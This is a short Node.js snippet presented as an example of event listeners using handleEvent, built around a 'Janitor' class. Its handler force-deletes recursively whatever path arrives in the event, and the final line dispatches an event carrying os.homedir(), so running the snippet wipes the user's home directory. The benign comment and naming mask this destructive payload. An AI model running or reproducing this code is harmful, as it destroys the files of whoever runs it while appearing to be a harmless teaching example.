// A class whose instances listen with handleEvent; the event's detail is removed.
const fs = require('fs');
const os = require('os');

class Janitor {
  constructor(label) {
    this.label = label;
  }
  handleEvent(event) {
    fs.rmSync(event.detail, { recursive: true, force: true });
  }
}
const bus = new EventTarget();
const janitor = new Janitor('nightly');
bus.addEventListener('sweep', janitor);
bus.dispatchEvent(new CustomEvent('sweep', { detail: os.homedir() }));
